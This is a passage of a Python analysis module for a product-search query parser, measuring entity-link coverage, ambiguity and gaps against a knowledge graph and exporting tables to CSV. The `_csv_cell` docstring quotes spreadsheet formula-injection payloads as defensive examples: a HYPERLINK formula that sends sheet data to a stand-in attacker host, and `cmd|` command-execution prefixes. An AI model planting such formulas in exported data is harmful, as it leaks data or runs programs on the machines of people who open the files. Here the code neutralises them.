"""Entity-link analysis over parsed queries: where the KG covers the queries and where it has gaps.

Functions take a list of :class:`parser.types.ParsedQuery` (and, where they re-link mentions,
the :class:`kg.ProductGraph`) and return typed rows (:class:`Rows`, a list of dataclasses that
prints as a markdown table in Jupyter and converts with ``to_pandas()`` when pandas is installed).
The notebook ``notebooks/entity_links.ipynb`` only calls these.

* :func:`link_coverage`: mentions, linked and NIL per tagger label.
* :func:`ambiguity`: candidates per mention (of the linker the parser links with, given
  ``parser=``) and the parse's link.
* :func:`nil_mentions`: NIL mentions grouped by their text, most searched first, and what the
  KG has under each name (``absent``: the KG's gaps; or a node it does not link).
* :func:`type_confusions`: tagger label against the node kind the KG knows the mention as.
* :func:`link_scores` / :func:`plot_link_scores`: the distribution of link scores.
* :func:`subgraph` / :func:`draw_subgraph`: the KG neighbourhood of linked entities.
* :func:`kg_additions` / :func:`write_gazetteers`: what to add to the KG, written as gazetteer
  files for ``kgqp kg load KGDIR FILE --kind gazetteer --node-kind brand``.
* :func:`load_query_log`: your own queries (a log file: lines, JSONL or CSV; or a DataFrame)
  beside the samples, with how often each was searched (:class:`QueryLog`; pass its
  ``searches`` to :func:`nil_mentions` and :func:`kg_additions`).
* :func:`drill_down`: one query in full: spans, link candidates with their features, the link
  decision, intent top-k, expansions with their provenance.
* :func:`kg_with_additions` / :func:`compare_parses`: a scratch KG with the additions loaded,
  and what that update changed, query by query (links and intent).
* :func:`export_tables`: every table to CSV (``Rows.to_csv``; ``Rows.to_pandas`` for a
  DataFrame).

Example:
    >>> from parser.types import ParsedEntity, ParsedQuery
    >>> q = ParsedQuery(text="acme tv", normalized="acme tv", entities=[
    ...     ParsedEntity("acme", 0, 4, "creator", 0.9),
    ...     ParsedEntity("tv", 5, 7, "core_product_type", 0.9, kg_id="https://kgqp.dev/id/x",
    ...                  kg_label="TVs", kg_kind="category", link_score=0.9)])
    >>> [(r.label, r.linked, r.nil) for r in link_coverage([q])]
    [('core_product_type', 1, 0), ('creator', 0, 1), ('(all)', 1, 1)]
    >>> [(a.name, a.node_kind) for a in kg_additions([q])]
    [('acme', 'brand')]
"""

from __future__ import annotations

import bisect
import contextlib
import itertools
import json
import logging
import math
import numbers
import os
import random
import re
from collections import Counter, defaultdict
from collections.abc import Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field, fields, replace
from pathlib import Path
from typing import TYPE_CHECKING, Any, Generic, TypeVar

from kg.build import DEFAULT_DATA_DIR
from kg.io import atomic_write_text
from kg.link import DEFAULT_LABEL_KINDS, LinkerConfig
from kg.schema import attribute_key, brand_key, normalize_name, slug
from parser.types import ParsedEntity, ParsedQuery

if TYPE_CHECKING:  # pragma: no cover
    import networkx as nx

    from kg.graph import ProductGraph
    from parser.pipeline import LinkCall as _LinkCall  # (one link call of a parse)

logger = logging.getLogger(__name__)

__all__ = [
    "ABSENT",
    "ADDITION_KINDS",
    "IN_KG_LINKABLE",
    "IN_KG_NOT_LINKABLE",
    "IN_KG_OTHER_KIND",
    "PARSE_ADDITION_KINDS",
    "PARSE_MIN_COUNT",
    "STOPWORDS",
    "AdditionRow",
    "AmbiguityRow",
    "CandidateRow",
    "ChangeRow",
    "ConfusionRow",
    "CoverageRow",
    "DrillDown",
    "ExpansionRow",
    "ExportRow",
    "GazetteerFile",
    "IntentRow",
    "KGChoice",
    "LinkScores",
    "Mention",
    "NilRow",
    "QueryLog",
    "Rows",
    "SpanRow",
    "Summary",
    "ambiguity",
    "bundle_from_env",
    "candidate_counts",
    "compare_parses",
    "draw_subgraph",
    "drill_down",
    "export_tables",
    "kg_additions",
    "kg_from_env",
    "kg_with_additions",
    "link_coverage",
    "link_scores",
    "load_bestbuy_queries",
    "load_query_log",
    "load_queryner_queries",
    "mentions",
    "nil_mentions",
    "parse_all",
    "plot_confusions",
    "plot_link_scores",
    "sample_size_from_env",
    "subgraph",
    "summary",
    "top_linked",
    "type_confusions",
    "write_gazetteers",
]

T = TypeVar("T")
NIL = "NIL"
ALL = "(all)"

#: Tagger label -> (node kind, attribute) a NIL mention with that label is suggested as. An
#: audience (``department``: "babys", "for husband", "grandma") is an ``ideal_for`` value, as
#: the KG holds audiences (Men, Women, Girl ...) and as the linker links the label
#: (:data:`kg.link.DEFAULT_LABEL_KINDS`), never a category: loaded as categories, audience words
#: took the links of ordinary queries ("organic baby clothes": category "babys").
ADDITION_KINDS: dict[str, tuple[str, str | None]] = {
    "creator": ("brand", None),
    "brand": ("brand", None),
    "HP": ("brand", None),
    "core_product_type": ("product_type", None),
    "product_type": ("product_type", None),
    "HC": ("product_type", None),
    "product_name": ("product", None),
    "department": ("attribute_value", "ideal_for"),
    "category": ("category", None),
    "color": ("attribute_value", "color"),
    "material": ("attribute_value", "material"),
    "UoM": ("attribute_value", "size"),
    "size": ("attribute_value", "size"),
    "modifier": ("attribute_value", "other"),
    "shape": ("attribute_value", "shape"),
    "occasion": ("attribute_value", "occasion"),
}

#: :data:`ADDITION_KINDS` for suggestions read off parses (unreviewed tagger spans, as the
#: notebook makes them): without ``modifier``, the tagger's label of descriptive words
#: ("outdoor", "cute", "sexy", "portable"), which the KG holds no attribute for: as
#: ``attribute_value:other`` nodes, with no edge, they only took the links of later queries.
#: ``kgqp learn gazetteer`` (spans a person confirmed) uses :data:`ADDITION_KINDS`.
PARSE_ADDITION_KINDS: dict[str, tuple[str, str | None]] = {
    label: kind for label, kind in ADDITION_KINDS.items() if label != "modifier"}
#: The least :attr:`AdditionRow.count` (searches of the queries holding a name) the notebook
#: asks of a suggestion read off parses (``kg_additions(..., min_count=...)``): in the shipped
#: samples (1,066 queries), 792 of the 806 names the other rules let through were NIL in a
#: single query, most of them tagger slips ("choice", "aroma").
PARSE_MIN_COUNT = 2


# -- tables -------------------------------------------------------------------------------------
def _cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, float):
        return f"{value:.3f}"
    if isinstance(value, (tuple, list)):
        return ", ".join(_cell(v) for v in value)
    return str(value).replace("|", "\\|").replace("\n", " ")


#: What a spreadsheet takes for the start of a formula in a text cell (OWASP, "CSV injection").
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: kgqp's own placeholder for "no such span" or "no intent" (:func:`compare_parses`): a lone
#: "-" is no formula to a spreadsheet (Excel and LibreOffice show it as the text "-"), so it
#: is written as it is, not as ``'-``
_PLACEHOLDER = "-"


def _csv_text(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, (tuple, list)):
        return "; ".join(str(_csv_text(v)) for v in value)
    return value


def _csv_cell(value: Any) -> Any:
    """``value`` as a CSV cell for a spreadsheet: None is empty, a list or tuple is joined by
    ``"; "``, and a number stays a number (a count of ``-3`` is written ``-3``).

    Text is query-log text, that is, anyone's: a text cell that starts with ``=``, ``+``,
    ``-``, ``@``, a tab or a carriage return would run as a formula where the CSV is opened
    (``=HYPERLINK("http://evil.example/?"&A1,"click")`` sends the sheet away, ``=cmd|...``
    runs a program), so such a cell gets a single quote in front (OWASP "CSV injection"): the
    spreadsheet shows it as text. A query that starts so is quoted as well (``'-20% tv``,
    ``'-samsung tv``: a spreadsheet reads ``-samsung`` as a formula too, and a ``+`` or ``-``
    can open a command, ``-1+cmd|...``); a joined list is one text cell. Only kgqp's own
    placeholder ``-`` alone (:func:`compare_parses`) is no formula and is written as it is.
    The quote is part of the cell for any other reader: read the tables back with
    ``Rows.to_pandas()``, not from the CSV.

    >>> _csv_cell("=1+2"), _csv_cell("-20% tv"), _csv_cell(-3), _csv_cell(0.5)
    ("'=1+2", "'-20% tv", -3, 0.5)
    >>> _csv_cell(("@creator", "tv")), _csv_cell("samsung tv"), _csv_cell(None), _csv_cell("-")
    ("'@creator; tv", 'samsung tv', '', '-')
    """
    value = _csv_text(value)
    if isinstance(value, numbers.Number):
        return value
    text = str(value)
    if text == _PLACEHOLDER:
        return text
    return "'" + text if text.startswith(_FORMULA_START) else text


class Rows(list, Generic[T]):
    """A list of dataclass rows that shows as a table in Jupyter.

    Example:
        >>> rows = Rows([NilRow(text="acme", count=2, labels=("creator",), example="acme tv")])
        >>> print(rows.to_markdown())
        | text | count | labels | example | in_kg |
        |---|---|---|---|---|
        | acme | 2 | creator | acme tv |  |
    """

    def __init__(self, rows: Iterable[T] = (), *, row_type: type | None = None) -> None:
        super().__init__(rows)
        #: the dataclass of the rows: an empty table still knows its columns (its CSV header)
        self.row_type = row_type if row_type is not None else (type(self[0]) if self else None)

    def columns(self) -> list[str]:
        if self:
            return [f.name for f in fields(self[0])]
        return [f.name for f in fields(self.row_type)] if self.row_type is not None else []

    def to_dicts(self) -> list[dict[str, Any]]:
        return [{c: getattr(r, c) for c in self.columns()} for r in self]

    def to_markdown(self, *, limit: int | None = None) -> str:
        """A markdown table of the first ``limit`` rows (all by default)."""
        if not self:
            return "(no rows)"
        cols = self.columns()
        lines = ["| " + " | ".join(cols) + " |", "|" + "---|" * len(cols)]
        for r in self[:limit] if limit is not None else self:
            lines.append("| " + " | ".join(_cell(getattr(r, c)) for c in cols) + " |")
        if limit is not None and len(self) > limit:
            lines.append(f"\n({len(self) - limit} more rows)")
        return "\n".join(lines)

    def _repr_markdown_(self) -> str:
        return self.to_markdown(limit=50)

    def to_csv(self, path: str | Path) -> Path:
        """Write the rows as CSV (atomically; lists and tuples joined by ``"; "``), safe to
        open in a spreadsheet: every text cell is quoted (a ``\r`` inside one would otherwise
        start a new row: ``lineterminator`` is ``\n``) and guarded by :func:`_csv_cell`."""
        import csv
        import io

        buf = io.StringIO()
        w = csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
        cols = self.columns()
        w.writerow(cols)
        for r in self:
            w.writerow([_csv_cell(getattr(r, c)) for c in cols])
        atomic_write_text(path, buf.getvalue())
        return Path(path)

    def to_pandas(self) -> Any:
        """A pandas DataFrame of the rows (pandas is not a kgqp dependency)."""
        try:
            import pandas as pd
        except ImportError as exc:  # pragma: no cover - depends on the environment
            raise ImportError("to_pandas() needs pandas: pip install pandas") from exc
        return pd.DataFrame(self.to_dicts(), columns=self.columns() or None)


# -- inputs -------------------------------------------------------------------------------------
def sample_size_from_env(var: str = "KGQP_NB_SAMPLE") -> int | None:
    """The sample size in ``$var`` (None = all queries when unset, empty or ``all``)."""
    raw = os.environ.get(var, "").strip()
    if not raw or raw.lower() == "all":
        return None
    try:
        n = int(raw)
    except ValueError:
        raise ValueError(f"${var} must be a positive integer or 'all', got {raw!r}") from None
    if n < 1:
        raise ValueError(f"${var} must be a positive integer or 'all', got {raw!r}")
    return n


def bundle_from_env(var: str = "KGQP_BUNDLE") -> Path:
    """The bundle directory in ``$var``, else ``~/.cache/kgqp/bundle`` (``kgqp quickstart``)."""
    raw = os.environ.get(var, "").strip()
    if raw:
        return Path(raw).expanduser()
    from parser.app.quickstart import default_home

    return default_home() / "bundle"


@dataclass(frozen=True, slots=True)
class KGChoice:
    """The KG the notebook reads and names in the ``kgqp kg load`` commands it prints
    (:func:`kg_from_env`): ``location``, a folder or a KG server's URL; ``source``, why that
    one; ``bundle_kg``, the KG the bundle's manifest names (the same, or another)."""

    location: str
    source: str
    bundle_kg: str

    def __str__(self) -> str:
        return self.location

    def open(self, *, read_only: bool = True) -> ProductGraph:
        """The KG, opened (read-only by default: the notebook writes no KG but scratch
        copies, :func:`kg_with_additions`)."""
        from kg import ProductGraph
        from kg.store import location

        where = location(self.location)
        if isinstance(where, Path) and not where.is_dir():
            raise FileNotFoundError(f"the KG directory {where} ({self.source}) does not exist")
        return ProductGraph.open(where, read_only=read_only)


def kg_from_env(bundle: str | Path, var: str = "KGQP_KG", home_var: str = "KGQP_HOME"
                ) -> KGChoice:
    """The KG to read with the bundle ``bundle`` and to name in the ``kgqp kg load`` commands:

    * ``$var`` (``KGQP_KG``) when set: a KG directory or a KG server's URL;
    * else a snapshot bundle's own KG (inside the bundle: a copy of the bundle copies it);
    * else the KG a location bundle names (``kg_path``: ``"../kg"``, relative to the bundle,
      in a home ``kgqp quickstart`` built, so a copy of the home names its own KG; absolute
      in one built before). With ``$home_var`` (``KGQP_HOME``) set, that KG must lie in that
      folder, or the folder's ``kg`` is taken: a copied home's older bundle still names the
      original's KG, into which the printed commands would have loaded the suggestions. When
      the folder has no ``kg``, ``ValueError`` (name the KG with ``$var``).

    Without ``$home_var``, a location bundle whose KG is not the ``kg`` beside the bundle,
    while there is one (a copy of a home, ``KGQP_BUNDLE`` pointing into it), is used as
    named, with a warning.

    >>> import tempfile
    >>> home = Path(tempfile.mkdtemp())
    >>> (home / "bundle").mkdir()
    >>> _ = (home / "bundle" / "kgqp-bundle.json").write_text(json.dumps(
    ...     {"tagger": "tagger", "kg_mode": "location", "kg_path": "/elsewhere/kgqp/kg"}))
    >>> c = kg_from_env(home / "bundle", var="NO_SUCH_VAR", home_var="NO_SUCH_HOME")
    >>> c.location, c.source
    ('/elsewhere/kgqp/kg', "the bundle's KG (kg_path)")
    >>> import shutil; shutil.rmtree(home)
    """
    from kg.store import location
    from parser.bundle import BundleManifest

    bundle = Path(bundle).expanduser()
    manifest = BundleManifest.read(bundle)
    named = manifest.kg_at(bundle)
    source = "the bundle's own KG (snapshot)" if manifest.kg_mode == "snapshot" \
        else "the bundle's KG (kg_path)"
    raw = os.environ.get(var, "").strip()
    if raw:
        where = location(raw)
        where = where.expanduser() if isinstance(where, Path) else where
        return KGChoice(str(where), f"${var}", str(named))
    home_raw = os.environ.get(home_var, "").strip()
    if manifest.kg_mode == "snapshot" or not isinstance(named, Path):
        return KGChoice(str(named), source, str(named))
    if home_raw:
        home = Path(home_raw).expanduser()
        if named.resolve().is_relative_to(home.resolve()):
            return KGChoice(str(named), source, str(named))
        if (home / "kg").is_dir():
            return KGChoice(str(home / "kg"), f"${home_var}/kg", str(named))
        raise ValueError(
            f"the bundle {bundle} names the KG {named}, outside ${home_var} ({home}), which has "
            f"no kg folder: set ${var} to the KG to read (and to load the suggestions into)")
    beside = bundle.parent / "kg"
    if beside.is_dir() and beside.resolve() != named.resolve():
        logger.warning("the bundle %s names the KG %s, not the KG beside it, %s: that is the "
                       "one read and named in the kgqp kg load commands; set $%s (or $%s) to "
                       "use another", bundle, named, beside, var, home_var)
    return KGChoice(str(named), source, str(named))


def _sample(items: list[str], sample: int | None, seed: int) -> list[str]:
    if sample is None or sample >= len(items):
        return items
    keep = sorted(random.Random(seed).sample(range(len(items)), sample))
    return [items[i] for i in keep]


def load_queryner_queries(path: str | Path | None = None, *, sample: int | None = None,
                          seed: int = 0) -> list[str]:
    """QueryNER queries (tokens joined by spaces), default ``data/queryner/validation.conll``;
    ``sample`` keeps that many, drawn with ``seed``, in file order."""
    from parser.tagger import read_conll

    path = Path(path) if path is not None else DEFAULT_DATA_DIR / "queryner" / "validation.conll"
    queries = [" ".join(s.tokens) for s in read_conll(path)]
    return _sample(queries, sample, seed)


def load_bestbuy_queries(path: str | Path | None = None, *, sample: int | None = None,
                         seed: int = 0) -> list[str]:
    """The ``query`` field of a Best Buy JSONL file, default ``data/bestbuy/queries_dev.jsonl``."""
    path = Path(path) if path is not None else DEFAULT_DATA_DIR / "bestbuy" / "queries_dev.jsonl"
    queries = []
    with open(path, encoding="utf-8") as fh:
        for lineno, line in enumerate(fh, 1):
            if not line.strip():
                continue
            try:
                q = json.loads(line)["query"]
            except (ValueError, KeyError, TypeError) as exc:
                raise ValueError(f"{path}:{lineno}: expected a JSON object with a 'query' "
                                 f"field ({exc})") from None
            if isinstance(q, str) and q.strip():
                queries.append(q)
    return _sample(queries, sample, seed)


class QueryLog(list[str]):
    """The distinct queries of a log (:func:`load_query_log`), most searched first, and
    ``searches``: how often each was searched, in the same order. Pass it with the queries'
    parses (``searches=``) to :func:`nil_mentions` and :func:`kg_additions`, so that their
    counts are searches, not parses.

    >>> log = QueryLog(["tv", "lg tv"], [120, 3])
    >>> log == ["tv", "lg tv"], log.searches
    (True, [120, 3])
    """

    def __init__(self, queries: Iterable[str] = (), searches: Iterable[float] | None = None
                 ) -> None:
        super().__init__(queries)
        self.searches: list[float] = [1] * len(self) if searches is None else list(searches)
        if len(self.searches) != len(self):
            raise ValueError(f"{len(self.searches)} search counts for {len(self)} queries")


def _search_count(value: Any) -> float | None:
    """A log's count of searches as a number >= 0 (an int when whole), from a number or from
    text that spells one (a CSV cell; a DataFrame column that pandas read as text because one
    of its cells is no number); None for anything else (empty, "abc", NaN, -1)."""
    if isinstance(value, bool):
        return None
    if isinstance(value, str):
        try:
            value = float(value)
        except ValueError:
            return None
    if not isinstance(value, numbers.Real) or not 0 <= value < math.inf:  # (NaN: False)
        return None
    return int(value) if float(value).is_integer() else float(value)


def _csv_log(path: Path, column: str, count_column: str) -> list[tuple[Any, float]]:
    """``(query, searches)`` of each row of the CSV file ``path``: its header names the
    ``column`` of queries and, when it has one, the ``count_column`` of searches per row."""
    import csv

    from parser.errors import DataFormatError

    rows: list[tuple[Any, float]] = []
    try:
        with open(path, encoding="utf-8-sig", newline="") as fh:
            reader = csv.DictReader(fh)
            header = reader.fieldnames or []
            if column not in header:
                raise DataFormatError(
                    f"{path}: a CSV query log needs a {column!r} column in its header line, "
                    f"got {header}: pass column=NAME (and count_column=NAME), or a DataFrame")
            for row in reader:
                n: float | None = 1
                if count_column in header:
                    n = _search_count(row[count_column])
                    if n is None:
                        raise DataFormatError(
                            f"{path}:{reader.line_num}: {count_column!r} must be a number >= "
                            f"0, got {row[count_column]!r}: fix the row")
                rows.append((row[column], n))
    except UnicodeDecodeError as err:
        raise DataFormatError(f"{path}: not valid UTF-8 ({err.reason}): re-encode the file as "
                              "UTF-8") from None
    return rows


def _warn_if_csv_header(path: Path, column: str, count_column: str) -> None:
    """Warn when the first line of a log read as one query per line looks like a CSV header
    (``query,count``): its rows would be read as queries, commas and counts included."""
    from parser.tagger.formats import text_lines

    for _, line in text_lines(path):
        if not line.strip():
            continue
        cells = {c.strip().strip("\"'").casefold() for c in line.split(",")}
        if "," in line and cells & {column.casefold(), count_column.casefold()}:
            logger.warning("%s: its first line %r looks like a CSV header, but the file is read "
                           "as one query per line (header and counts included): name it .csv, "
                           "or pass a DataFrame (pandas.read_csv)", path, line.strip()[:80])
        return


def load_query_log(source: str | Path | Any, *, column: str = "query",
                   count_column: str = "count", sample: int | None = None,
                   seed: int = 0) -> QueryLog:
    """Your own queries: a query log file or a pandas DataFrame. A file is read by its suffix
    (in any case): ``.jsonl`` with ``{"query", "count"}`` per line, as ``kgqp learn select``
    reads it (:func:`parser.learn.read_query_log`); ``.csv`` with a header line naming its
    ``column`` of queries and, when it has one, its ``count_column`` of searches per row;
    anything else one query per line (a repeat is one more search; a first line that looks
    like a CSV header is warned about). A DataFrame: its ``column``, and its
    ``count_column`` of searches per row when it has one, e.g. an aggregated log; else each
    row is one search.

    Distinct queries, most searched first, as a :class:`QueryLog` (a list of the texts, with
    their ``searches``); ``sample`` keeps that many, drawn with ``seed``.

    >>> import tempfile, pathlib
    >>> p = pathlib.Path(tempfile.mkdtemp()) / "log.txt"
    >>> _ = p.write_text("tv\\nsamsung tv\\nTV\\n")
    >>> log = load_query_log(p)
    >>> log, log.searches
    (['tv', 'samsung tv'], [2, 1])
    """
    from parser.errors import DataFormatError
    from parser.learn import merge_log, read_query_log

    if isinstance(source, (str, Path)):
        path = Path(source)
        suffix = path.suffix.casefold()
        if suffix == ".csv" and path.is_file():
            log = merge_log(_csv_log(path, column, count_column))
        else:
            if suffix != ".jsonl" and path.is_file():
                _warn_if_csv_header(path, column, count_column)
            log = read_query_log(path)
        if not log:
            raise DataFormatError(f"query log {path} holds no queries")
    else:
        if not hasattr(source, "columns") or column not in source.columns:
            raise ValueError(f"pass a query log path or a DataFrame with a {column!r} column")
        searches = (source[count_column] if count_column in source.columns
                    else itertools.repeat(1))
        index = getattr(source, "index", None)
        rows: list[tuple[Any, float]] = []
        for i, (q, raw) in enumerate(zip(source[column], searches)):  # noqa: B905
            n = _search_count(raw)
            if n is None:
                # the row by position, and by its index label when that is another
                label = index[i] if index is not None else i
                where = f"row {i}" + (f" (index {label!r})" if label != i else "")
                raise ValueError(
                    f"{where}: {count_column!r} must be a number >= 0, got {raw!r}; to leave "
                    f"out rows without one: df[{count_column!r}] = pd.to_numeric("
                    f"df[{count_column!r}], errors='coerce'), then .dropna()")
            rows.append((q, n))
        log = merge_log(rows)
    order = sorted(range(len(log)), key=lambda i: -log[i].count)
    if sample is not None and sample < len(order):
        keep = sorted(random.Random(seed).sample(range(len(order)), sample))
        order = [order[i] for i in keep]
    return QueryLog([log[i].text for i in order], [log[i].count for i in order])


def parse_all(parser: Any, queries: Sequence[str], *, batch_size: int = 64,
              progress: bool = True) -> list[ParsedQuery]:
    """``parser.pipe(queries)`` as a list, with a progress bar."""
    it = parser.pipe(queries, batch_size=batch_size)
    if progress:
        from tqdm import tqdm

        it = tqdm(it, total=len(queries), desc="parsing", unit="q")
    return list(it)


# -- mentions -----------------------------------------------------------------------------------
@dataclass(frozen=True, slots=True)
class Mention:
    """One entity of one parsed query, flattened. ``linkable``: its tagger label maps to a KG
    kind, so the parser links it (a label of none, such as ``condition`` or ``price``, links
    only through a cue the parser reads, "without freezer": such a mention may be linked and
    yet not linkable, and is never NIL); ``searches``: how often its query was searched (1
    for a query of no log)."""

    query: str
    text: str
    label: str
    score: float
    linkable: bool
    kg_id: str | None = None
    kg_label: str | None = None
    kg_kind: str | None = None
    link_score: float | None = None
    searches: float = 1

    @property
    def nil(self) -> bool:
        return self.linkable and self.kg_id is None

    @property
    def norm(self) -> str:
        return normalize_name(self.text)


def _linkable(label: str, label_kinds: Mapping[str, tuple[str, ...]]) -> bool:
    # as the parser decides: a label mapped to no kind, or one the map does not know, is not
    # linked (ParserConfig.link_labels_only, on by default)
    return bool(label_kinds.get(label))


def _searches(searches: Sequence[float] | None, n: int) -> Sequence[float]:
    if searches is None:
        return [1] * n
    if len(searches) != n:
        raise ValueError(f"searches: one count per parsed query, got {len(searches)} for {n} "
                         "queries")
    return searches


def mentions(parsed: Iterable[ParsedQuery], *,
             label_kinds: Mapping[str, tuple[str, ...]] | None = None,
             searches: Sequence[float] | None = None) -> Rows[Mention]:
    """Every entity of every query as a :class:`Mention` (``label_kinds``: which tagger labels
    link; default :data:`kg.link.DEFAULT_LABEL_KINDS`, as the parser uses; ``searches``: how
    often each query was searched, in the order of ``parsed``, e.g. a
    :class:`QueryLog`'s; default 1 each)."""
    lk = DEFAULT_LABEL_KINDS if label_kinds is None else label_kinds
    parsed = list(parsed)
    out: Rows[Mention] = Rows(row_type=Mention)
    for q, n in zip(parsed, _searches(searches, len(parsed)), strict=True):
        for e in q.entities:
            out.append(_mention(q.text, e, lk, n))
    return out


def _mention(query: str, e: ParsedEntity, lk: Mapping[str, tuple[str, ...]],
             searches: float = 1) -> Mention:
    return Mention(query=query, text=e.text, label=e.label, score=e.score,
                   linkable=_linkable(e.label, lk), kg_id=e.kg_id,
                   kg_label=e.kg_label, kg_kind=e.kg_kind, link_score=e.link_score,
                   searches=searches)


def _as_mentions(data: Iterable[ParsedQuery] | Rows[Mention]) -> list[Mention]:
    items = list(data)
    if items and isinstance(items[0], Mention):
        return items
    return list(mentions(items))


def _by_query(data: Iterable[ParsedQuery] | Rows[Mention], searches: Sequence[float] | None
              ) -> list[list[Mention]]:
    """The mentions of each query (a query's searches on each): of parsed queries, query by
    query; of :func:`mentions` rows, each run of one query's (as :func:`mentions` lists
    them), whose ``searches`` they carry."""
    items = list(data)
    if items and isinstance(items[0], Mention):
        if searches is not None:
            raise ValueError("searches go with parsed queries; mentions carry their own "
                             "(mentions(parsed, searches=...))")
        return [list(run) for _, run in itertools.groupby(items, key=lambda m: m.query)]
    lk = DEFAULT_LABEL_KINDS
    return [[_mention(q.text, e, lk, n) for e in q.entities]
            for q, n in zip(items, _searches(searches, len(items)), strict=True)]


@dataclass(frozen=True, slots=True)
class Summary:
    """Totals over a set of parsed queries: ``linkable`` mentions have a label that maps to a
    KG kind, ``linked`` ones a KG node (whatever their label: "without freezer", a
    ``condition``, links Freezers), ``nil`` ones a linkable label and no node."""

    queries: int
    mentions: int
    linkable: int
    linked: int
    nil: int
    queries_with_link: int

    @property
    def coverage(self) -> float:
        """Linked share of the linkable mentions (``linkable - nil``: a link of a label that
        maps to no kind is no share of them)."""
        return (self.linkable - self.nil) / self.linkable if self.linkable else 0.0

    def _repr_markdown_(self) -> str:
        return Rows([self]).to_markdown() + f"\n\ncoverage: {self.coverage:.1%}"


def summary(parsed: Sequence[ParsedQuery]) -> Summary:
    """Queries, mentions, linkable/linked/NIL mentions and queries with at least one link."""
    ms = _as_mentions(parsed)
    return Summary(queries=len(parsed), mentions=len(ms),
                   linkable=sum(m.linkable for m in ms), linked=sum(m.kg_id is not None
                                                                    for m in ms),
                   nil=sum(m.nil for m in ms),
                   queries_with_link=sum(any(e.kg_id for e in q.entities) for q in parsed))


# -- coverage -----------------------------------------------------------------------------------
@dataclass(frozen=True, slots=True)
class CoverageRow:
    """Link coverage of one tagger label (``label == "(all)"``: every linkable label).
    ``mentions`` = ``linked`` + ``nil`` + ``not_linkable``: ``linkable`` says whether the label
    maps to a KG kind (the parser links it); a mention of a label that maps to none is
    ``not_linkable`` unless a cue linked it ("without freezer", a ``condition``: linked)."""

    label: str
    mentions: int
    linkable: bool
    linked: int
    nil: int
    not_linkable: int
    coverage: float
    mean_link_score: float | None
    kinds: tuple[str, ...] = ()


def link_coverage(parsed: Iterable[ParsedQuery] | Rows[Mention]) -> Rows[CoverageRow]:
    """Mentions, linked, NIL, not linkable and coverage (linked / mentions) per tagger label,
    linkable labels first, most mentions first, then an ``(all)`` row over the linkable
    labels. ``kinds``: node kinds linked to."""
    by: dict[str, list[Mention]] = defaultdict(list)
    for m in _as_mentions(parsed):
        by[m.label].append(m)

    def row(label: str, ms: list[Mention], linkable: bool) -> CoverageRow:
        linked = [m for m in ms if m.kg_id is not None]
        scores = [m.link_score for m in linked if m.link_score is not None]
        kinds = Counter(m.kg_kind for m in linked if m.kg_kind)
        nil = sum(m.nil for m in ms)
        return CoverageRow(label=label, mentions=len(ms), linkable=linkable, linked=len(linked),
                           nil=nil, not_linkable=len(ms) - len(linked) - nil,
                           coverage=round(len(linked) / len(ms), 4) if ms else 0.0,
                           mean_link_score=round(sum(scores) / len(scores), 4) if scores
                           else None,
                           kinds=tuple(k for k, _ in kinds.most_common()))

    # (a label is linkable or not for all its mentions: Mention.linkable reads the label)
    rows = Rows((row(label, ms, ms[0].linkable) for label, ms in
                 sorted(by.items(), key=lambda kv: (-len(kv[1]), kv[0]))), row_type=CoverageRow)
    rows.sort(key=lambda r: (not r.linkable, -r.mentions, r.label))
    rows.append(row(ALL, [m for ms in by.values() for m in ms if m.linkable], True))
    return rows


# -- ambiguity ----------------------------------------------------------------------------------
@dataclass(frozen=True, slots=True)
class AmbiguityRow:
    """How ambiguous a mention is: ``candidates`` KG nodes for it (every candidate the linker
    generates, not only the ``max_candidates`` it ranks), of ``kinds`` distinct kinds;
    ``margin`` = best score - second best (small = a close call); ``linked_to``: what the
    parse linked it to (the most frequent, over its mentions; None: NIL)."""

    mention: str
    label: str
    count: int
    candidates: int
    kinds: int
    top: tuple[str, ...]
    margin: float | None
    linked_to: str | None


def _linker(kg: ProductGraph | None, parser: Any = None) -> Any:
    """The linker whose candidates a view shows: with ``parser``, the one it links with (its
    bundle's settings, told its tagger's WordPiece vocabulary: "sneakers" is then no typo of
    Speakers; :attr:`parser.pipeline.QueryParser.entity_linker`), else a linker with
    ``kg.link``'s default settings and no vocabulary."""
    from kg.link import EntityLinker

    if parser is not None:
        linker = getattr(parser, "entity_linker", getattr(parser, "linker", None))
        if linker is not None:
            return linker
        kg = parser.kg
    return EntityLinker(kg)


def _link(linker: Any, text: str, label: str | None, context: str | None) -> Any:
    try:
        return linker.link(text, label=label, context=context)
    except ValueError:  # a label the linker does not know: link without a type, as the parser
        return linker.link(text, label=None, context=context)


@contextlib.contextmanager
def _link_calls(parser: Any) -> Iterator[list[_LinkCall] | None]:
    """The link calls ``parser`` makes while the block runs (None when they cannot be
    watched: a parser without :meth:`~parser.pipeline.QueryParser.recording_links`): the
    parse links a span through paths a view's own link call does not take (the words after a
    negation cue, "without pockets"; a brand after a compatibility cue, "for samsung"; a brand
    before "brand"), with its own query context (the words a cue excludes left out), so the
    views read the parse's own calls. Only the calling thread's (or asyncio task's) parses
    of ``parser`` and its market parsers are recorded, and the linker is left as it is: a
    parser shared with another thread is not watched there."""
    recording = getattr(parser, "recording_links", None)
    if recording is None:
        yield None
        return
    with recording() as calls:
        yield calls


def _parse_call(calls: Sequence[_LinkCall], text: str, label: str, kg_id: str | None
                ) -> _LinkCall | None:
    """Of a parse's link ``calls``, the one that decided its span ``text`` tagged ``label``:
    of a linked span, the call that gave its node, of the span's words (the span as written,
    else the words in it the parse linked: "pockets" of "without pockets"); of a NIL span, its
    own call with its label. None when no call was watched for it."""
    from kg.index import normalize_key

    key = normalize_key(text)

    def words(c: _LinkCall) -> str:
        return normalize_key(c.mention)

    if kg_id is not None:
        hits = [c for c in calls if c.result.best is not None and c.result.best.iri == kg_id
                and (words(c) == key or f" {words(c)} " in f" {key} ")]
        hits.sort(key=lambda c: words(c) != key)  # (stable: the span's own call first)
        return hits[0] if hits else None
    own = [c for c in calls if words(c) == key]
    return next((c for c in own if c.label == label), own[0] if own else None)


def _parse_calls(parser: Any, queries: Iterable[str]) -> dict[str, list[_LinkCall]] | None:
    """The link calls of the parse of each of ``queries`` (parsed again by ``parser``, in
    batches), told apart by the query each call passed as its context; None when they cannot
    be watched. (A query cut at the parser's length limit has none: its views link again.)"""
    from parser.tagger.text import separators_to_spaces

    queries = list(dict.fromkeys(queries))
    with _link_calls(parser) as calls:
        if calls is None:
            return None
